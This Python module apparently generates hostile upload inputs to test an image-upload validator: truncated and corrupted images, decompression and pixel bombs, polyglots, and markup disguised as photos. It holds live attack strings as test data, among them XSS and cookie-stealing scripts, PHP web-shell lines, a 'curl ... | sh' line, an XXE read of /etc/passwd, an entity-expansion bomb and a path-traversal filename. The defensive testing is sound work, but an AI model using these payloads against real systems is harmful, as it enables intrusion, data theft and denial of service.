"""R3's families of hostile images: truncated, corrupted, decompression bombs, pixel
bombs, polyglots, markup disguised as images, other formats, and the valid edge cases that
must be accepted. Each function makes one input from the kit's seeded rng."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

from tests.support.images import encode, png_chunk

from .images import (
    MB,
    heic,
    patch_jpeg_size,
    patch_webp_canvas,
    png_of,
    png_rows,
    smooth,
    zeros_compressed,
)
from .uploads import (
    ACCEPT,
    BOMB_CODES,
    INVALID,
    TOO_MANY_PIXELS,
    UNSUPPORTED,
    Case,
    Kit,
)


def truncated(kit: Kit) -> Case:
    name, content = kit.base()
    rng = kit.rng
    cut = rng.choice([rng.randrange(0, 64), rng.randrange(0, len(content))])
    if name == "gif":  # cut to nothing: an empty file (PHOTO_INVALID)
        codes = UNSUPPORTED | INVALID
        return Case("truncated", f"{name}[:{cut}]", kit.photo(content[:cut]), codes=codes)
    if name == "heic":
        codes = kit.heic_codes | INVALID | UNSUPPORTED
        return Case("truncated", f"{name}[:{cut}]", kit.photo(content[:cut]), codes=codes)
    return kit.image_case("truncated", f"{name}[:{cut}]", content[:cut])


def corrupted(kit: Kit) -> Case:
    name, content = kit.base(*(n for n in kit.bases.images if n not in ("gif", "heic")))
    rng = kit.rng
    data = bytearray(content)
    where = rng.choice(["header", "anywhere", "tail", "bytes"])
    flips = []
    for _ in range(rng.randint(1, 12)):
        if where == "header":
            at = rng.randrange(0, min(len(data), 96))
        elif where == "tail":
            at = rng.randrange(max(0, len(data) - 256), len(data))
        else:
            at = rng.randrange(0, len(data))
        if where == "bytes":
            data[at] = rng.choice([0x00, 0xFF, rng.randrange(256)])
        else:
            data[at] ^= 1 << rng.randrange(8)
        flips.append(at)
    label = f"{name} {where} @{','.join(map(str, sorted(flips)[:4]))}"
    return kit.image_case("corrupted", label, bytes(data))


def bombs(kit: Kit) -> Case:
    rng = kit.rng
    kind = rng.choice(
        [
            "png_dims",
            "png_max_dims",
            "png_idat_zlib",
            "png_iccp_zlib",
            "png_ztxt_zlib",
            "jpeg_sof",
            "jpeg_progressive_sof",
            "webp_canvas",
            "gif_screen",
            "heic_ispe",
            "apng_frames",
        ]
    )
    if kind == "png_dims":  # over the full-decode bound, a few hundred bytes
        side = rng.randint(4001, 65_535)
        other = rng.randint(max(1, 16_000_001 // side + 1), 65_535)
        content = png_of(side, other, zlib.compress(b"\x00" * 64), colour=rng.choice([0, 2, 6]))
        return Case("bombs", f"{kind} {side}x{other}", kit.photo(content), codes=BOMB_CODES)
    if kind == "png_max_dims":  # the largest sizes PNG allows
        width, height = rng.choice([(2**31 - 1, 2**31 - 1), (2**31 - 1, 1), (1, 2**31 - 1)])
        content = png_of(width, height, zlib.compress(b"\x00" * 64))
        codes = BOMB_CODES | frozenset({"PHOTO_TOO_SMALL"})
        return Case("bombs", f"{kind} {width}x{height}", kit.photo(content), codes=codes)
    if kind == "png_idat_zlib":  # 600x600 declared, 64 MB of zeros deflated in its IDAT
        content = kit.memo("idat", lambda: png_of(600, 600, zeros_compressed(64 * MB)))
        return kit.image_case("bombs", kind, content)
    if kind == "png_iccp_zlib":  # a 64 MB "ICC profile" in 64 kB
        chunk = png_chunk(b"iCCP", b"icc\x00\x00" + kit.zeros_64mb())
        content = png_of(400, 300, png_rows(400, 300), before=chunk)
        return kit.image_case("bombs", kind, content)
    if kind == "png_ztxt_zlib":  # 64 MB of text, after the pixels (read at the end)
        chunk = png_chunk(b"zTXt", b"Comment\x00\x00" + kit.zeros_64mb())
        content = png_of(400, 300, png_rows(400, 300), after=chunk)
        return kit.image_case("bombs", kind, content)
    if kind in ("jpeg_sof", "jpeg_progressive_sof"):
        progressive = kind == "jpeg_progressive_sof"
        source = kit.bases.images["jpeg_progressive" if progressive else "jpeg"]
        width, height = rng.randint(7072, 65_535), rng.randint(7072, 65_535)
        content = patch_jpeg_size(source, width, height)
        return Case("bombs", f"{kind} {width}x{height}", kit.photo(content), codes=BOMB_CODES)
    if kind == "webp_canvas":  # an animation's canvas of up to 16384x16384 (1 GB decoded)
        width, height = rng.randint(4001, 16_384), rng.randint(4001, 16_384)
        content = patch_webp_canvas(kit.bases.images["webp_animated"], width, height)
        return Case("bombs", f"{kind} {width}x{height}", kit.photo(content), codes=BOMB_CODES)
    if kind == "gif_screen":
        content = b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\xf7\x00\x00" + b"\x00" * 64
        return Case("bombs", kind, kit.photo(content), codes=UNSUPPORTED)
    if kind == "heic_ispe":
        content = heic(rng, 65_535, 65_535)
        return Case("bombs", kind, kit.photo(content), codes=kit.heic_codes | BOMB_CODES)
    # apng_frames: an APNG that declares 2**31 - 1 frames (it has 3)
    content = bytearray(kit.bases.images["apng"])
    at = content.index(b"acTL") + 4
    content[at : at + 4] = struct.pack(">I", 2**31 - 1)
    content[at + 8 : at + 12] = struct.pack(">I", zlib.crc32(bytes(content[at - 4 : at + 8])))
    return kit.image_case("bombs", kind, bytes(content))


def pixel_bombs(kit: Kit) -> Case:
    """Real images within the byte limit, over the pixel bounds: refused from the header."""
    rng = kit.rng
    kind = rng.choice(["png_rgb", "png_rgba", "png_grey16", "jpeg_baseline", "jpeg_progressive"])
    if kind.startswith("png"):
        width = rng.choice([4001, 5000, 6400, 8000])
        height = 16_000_000 // width + rng.choice([1, 300])
        pixel_bytes, depth, colour = {"png_rgb": (3, 8, 2), "png_rgba": (4, 8, 6)}.get(
            kind, (2, 16, 0)
        )
        content = kit.memo(
            (kind, width, height),
            lambda: png_of(
                width, height, png_rows(width, height, pixel_bytes), depth=depth, colour=colour
            ),
        )
    else:
        progressive = kind == "jpeg_progressive"
        bound = 16_000_000 if progressive else 50_000_000
        width = rng.randint(7100, 12_000)
        height = rng.randint(bound // width + 1, bound // width + 400)
        source = kit.bases.images["jpeg_progressive" if progressive else "jpeg"]
        content = patch_jpeg_size(source, width, height)
    assert len(content) < 10 * MB
    label = f"{kind} {width}x{height} {len(content)} B"
    return Case("pixel_bombs", label, kit.photo(content), codes=TOO_MANY_PIXELS)


PAYLOADS = {
    "html": b"<html><body><script>alert(document.cookie)</script>R3MARK</body></html>",
    "js": b"<script>fetch('/genlook/api/me/').then(r=>r.text())</script>R3MARK",
    "php": b"<?php system($_GET['c']); /* R3MARK */ ?>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">R3MARK</svg>',
    "pdf": b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj R3MARK\ntrailer<</Root 1 0 R>>\n%%EOF",
}


def _zip_payload() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.html", PAYLOADS["html"])
    return out.getvalue()


def polyglot_prepended(kit: Kit) -> Case:
    """Something else first, then a valid image: not a photo by its first bytes."""
    rng = kit.rng
    kind = rng.choice([*PAYLOADS, "zip", "gifar"])
    name, image = kit.base(*(n for n in kit.bases.images if n not in ("gif", "heic")))
    if kind == "gifar":
        content = b"GIF89a" + image + _zip_payload()
    else:
        payload = _zip_payload() if kind == "zip" else PAYLOADS[kind]
        content = payload + rng.choice([b"", b"\n", b"\x00" * rng.randint(1, 32)]) + image
    return Case("polyglots_prepended", f"{kind}+{name}", kit.photo(content), codes=UNSUPPORTED)


def polyglot_appended(kit: Kit) -> Case:
    """A valid image carrying a payload after its end or in its metadata: accepted, and
    the payload must not survive the re-encode."""
    rng = kit.rng
    kind = rng.choice([*PAYLOADS, "zip", "jpeg_comment", "png_text", "exif"])
    name, image = kit.base("jpeg", "png", "webp", "jpeg_progressive", "png_rgba")
    if kind == "jpeg_comment":
        content = encode(smooth(rng, (320, 320)), "JPEG", comment=PAYLOADS["html"])
    elif kind == "png_text":
        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", PAYLOADS["php"].decode())
        info.add_itxt("XML:com.adobe.xmp", PAYLOADS["svg"].decode())
        content = encode(smooth(rng, (320, 320)), "PNG", pnginfo=info)
    elif kind == "exif":
        exif = Image.Exif()
        exif[0x010E] = PAYLOADS["js"].decode()  # ImageDescription
        content = encode(smooth(rng, (320, 320)), "JPEG", exif=exif)
    else:
        content = image + (_zip_payload() if kind == "zip" else PAYLOADS[kind])
    return Case("polyglots_appended", f"{name}+{kind}", kit.photo(content), expect=ACCEPT)


MARKUP = [
    b"<!DOCTYPE html><html><head><title>x</title></head><body><script>alert(1)</script>",
    b'<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000" onload="alert(1)">'
    b"<script>alert(2)</script><rect width='100%' height='100%'/></svg>",
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;'
    b'&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    b"<svg>&lol3;</svg>",
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<svg>&xxe;</svg>",
    b"<?php echo shell_exec($_GET['cmd']); ?>",
    b"#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n",
    b"<script>document.location='http://127.0.0.1:9/?'+document.cookie</script>",
    b"<img src=x onerror=alert(1)>",
    b"<html><body><iframe src='javascript:alert(1)'></iframe></body></html>",
    b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 4000 4000\n",
    b'{"photo": "data:image/png;base64,iVBORw0KGgo="}',
    b"data:image/jpeg;base64,/9j/4AAQSkZJRgABAQAAAQABAAD/",
    b"javascript:alert(String.fromCharCode(88,83,83))",
    b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><script>alert(1)</script></x:xmpmeta>",
    b"P6\n65535 65535\n255\n",
    b"\x00\x00\x01\x00\x01\x00\x10\x10<script>",  # an ICO header
]

MAGIC = {
    "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
    "png": b"\x89PNG\r\n\x1a\n",
    "webp": b"RIFF\x00\x01\x00\x00WEBPVP8 ",
}


def disguised(kit: Kit) -> Case:
    """Markup, scripts and text under an image's name and type."""
    rng = kit.rng
    text = rng.choice(MARKUP)
    style = rng.choice(["plain", "bom", "space", "upper", "utf16", "padded", "magic"])
    codes = UNSUPPORTED
    if style == "bom":
        text = b"\xef\xbb\xbf" + text
    elif style == "space":
        text = rng.choice([b" ", b"\n", b"\t", b"\r\n"]) * rng.randint(1, 40) + text
    elif style == "upper":
        text = text.upper()
    elif style == "utf16":
        text = text.decode("latin-1").encode("utf-16")
    elif style == "padded":
        text = text + b" " * rng.randint(1, 200_000)
    else:  # the first bytes of an image, then markup
        magic = rng.choice(list(MAGIC))
        text = MAGIC[magic] + text
        codes = INVALID
    filename = b"photo." + kit.image_ext()
    body = kit.photo(text, filename=filename, ctype=kit.image_type())
    return Case("disguised", f"{style} {text[:24]!r}", body, codes=codes)


def other_formats(kit: Kit) -> Case:
    rng = kit.rng
    kind = rng.choice(
        [
            *("bmp", "tiff", "ico", "ppm", "tga", "pcx", "jpeg2000", "gif_animated"),
            *("pdf", "zip", "mp4", "avif", "elf", "exe", "psd", "svgz"),
        ]
    )
    picture = smooth(rng, (300, 300))
    codes = UNSUPPORTED
    if kind == "gif_animated":
        frames = [smooth(rng, (300, 300)).convert("P") for _ in range(3)]
        content = encode(frames[0], "GIF", save_all=True, append_images=frames[1:])
    elif kind in ("bmp", "tiff", "ico", "ppm", "tga", "pcx"):
        content = encode(picture, {"ppm": "PPM", "tga": "TGA"}.get(kind, kind.upper()))
    elif kind == "jpeg2000":
        content = encode(picture, "JPEG2000")
    elif kind == "pdf":
        content = encode(picture, "PDF")
    elif kind == "zip":
        content = _zip_payload()
    elif kind == "mp4":
        content = struct.pack(">I", 24) + b"ftypisom\x00\x00\x02\x00isomiso2" + rng.randbytes(512)
    elif kind == "avif":  # an AVIF brand: read as HEIF
        content = struct.pack(">I", 24) + b"ftypavif\x00\x00\x00\x00avifmif1" + rng.randbytes(512)
        codes = kit.heic_codes
    elif kind == "elf":
        content = b"\x7fELF\x02\x01\x01" + rng.randbytes(1024)
    elif kind == "exe":
        content = b"MZ\x90\x00" + rng.randbytes(1024)
    elif kind == "psd":
        content = b"8BPS\x00\x01" + rng.randbytes(1024)
    else:
        content = b"\x1f\x8b\x08" + zlib.compress(MARKUP[1])
    body = kit.photo(content, filename=b"photo." + kit.image_ext(), ctype=kit.image_type())
    return Case("other_formats", kind, body, codes=codes)


def valid(kit: Kit) -> Case:
    """Valid edge cases: they must be accepted (counted apart from the bad inputs)."""
    rng = kit.rng
    name = rng.choice(list(kit.bases.valid))
    content = kit.bases.valid[name]
    filename = rng.choice([b"me.jpg", b"../../etc/passwd", b"\xe2\x80\xaegpj.exe", b"x.svg"])
    ctype = rng.choice([b"image/jpeg", b"text/html", b"application/octet-stream", None])
    body = kit.photo(content, filename=filename, ctype=ctype)
    return Case("valid", f"{name} as {filename!r} {ctype!r}", body, expect=ACCEPT)
